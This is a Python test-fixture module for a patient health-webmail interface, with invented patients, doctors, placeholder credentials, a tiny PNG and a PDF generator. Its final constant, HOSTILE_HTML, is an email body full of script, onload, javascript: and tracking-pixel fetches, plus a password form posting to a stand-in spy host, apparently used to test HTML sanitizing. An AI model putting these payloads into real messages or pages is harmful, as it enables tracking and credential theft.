"""Invented persons and files that the worlds of the web tests are made of."""

import zlib
from datetime import UTC, datetime

from gateway.domain.access import Actor, PurposeOfUse, Role
from gateway.domain.mailbox import VaultId
from webmail.correspondent import Correspondent, CorrespondentKind
from webmail.signed_in import SignedIn

NOW = datetime(2026, 3, 12, 9, 5, tzinfo=UTC)
IDENTIFIER, PASSWORD, CODE = "camille.martin", "Trois-lampes-bleues-7", "aB3dE9"


def _person(number: int, name: str, address: str) -> SignedIn:
    vault = VaultId(number)
    actor = Actor(
        account=address,
        role=Role.PATIENT,
        vault=vault,
        home=vault,
        purpose=PurposeOfUse.PATIENT_REQUEST,
        person=name,
        face="web",
    )
    return SignedIn(actor=actor, name=name, address=address)


CAMILLE = _person(1, "Camille Martin", "279035121518989@patient.mssante.fr")
OTHER = _person(2, "Noé Petit", "195035121518986@patient.mssante.fr")

VASSEUR = Correspondent("Dr Hélène Vasseur", CorrespondentKind.PERSON, "Médecin généraliste · Lyon")
KADDOUR = Correspondent("Dr Samir Kaddour", CorrespondentKind.PERSON, "Cardiologue · Villeurbanne")
LABORATORY = Correspondent("Laboratoire des Halles", CorrespondentKind.APPLICATION, "Biologie médicale · Lyon")
HOSPITAL = Correspondent("Service de cardiologie", CorrespondentKind.ORGANISATION, "Hôpital Saint-Exemple")

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)


def invented_pdf(text: str) -> bytes:
    """Make a one-page PDF that says `text` (ASCII)."""
    drawn = zlib.compress(b"BT /F1 20 Tf 60 760 Td (" + text.encode("ascii") + b") Tj ET")
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(drawn), drawn),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


HOSTILE_HTML = """<html><head><style>@import url(https://spy.example/i.css);body{background:url(//spy.example/b)}</style></head>
<body bgcolor="#ffffff" background="https://spy.example/body.png" onload="fetch('https://spy.example/onload')">
<h2 style="color:red;background-image:url(https://spy.example/h2.png)">Votre rendez-vous</h2>
<p style="font-weight:bold">Voici la courbe de votre tension&nbsp;:</p>
<img src="cid:courbe@cabinet.example" alt="Courbe de tension" width="120" height="40">
<img src="https://spy.example/pixel.gif" alt="" width="1" height="1">
<script>parent.document.title = 'volé'; fetch('https://spy.example/script')</script>
<svg onload="fetch('https://spy.example/svg')"><image href="https://spy.example/svg.png"/></svg>
<a href="https://rendez-vous.example/dr-vasseur">Prendre rendez-vous</a>
<a href="javascript:fetch('https://spy.example/js')">ici</a>
<form action="https://spy.example/form"><input name="mot_de_passe"><button>Valider</button></form>
<iframe src="https://spy.example/frame"></iframe><link rel="stylesheet" href="https://spy.example/l.css">
<video src="https://spy.example/v.mp4" autoplay></video><meta http-equiv="refresh" content="0;url=https://spy.example/m">
</body></html>"""
